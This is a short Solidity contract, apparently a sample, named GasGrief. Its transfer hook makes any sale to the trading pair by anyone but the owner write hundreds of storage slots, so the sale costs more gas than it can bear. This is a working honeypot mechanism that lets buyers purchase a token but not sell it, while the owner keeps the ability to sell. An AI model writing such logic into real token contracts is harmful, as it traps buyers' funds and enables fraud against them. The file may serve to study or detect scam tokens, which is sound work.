// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Base} from "./Base.sol";

/// A sale costs more gas than anybody pays.
contract GasGrief is Base {
    mapping(uint256 => uint256) private junk;

    function _before(address from, address to, uint256) internal override {
        if (to == pair && from != owner) for (uint256 i = 1; i < 300; ++i) junk[i] = block.timestamp + i;
    }
}
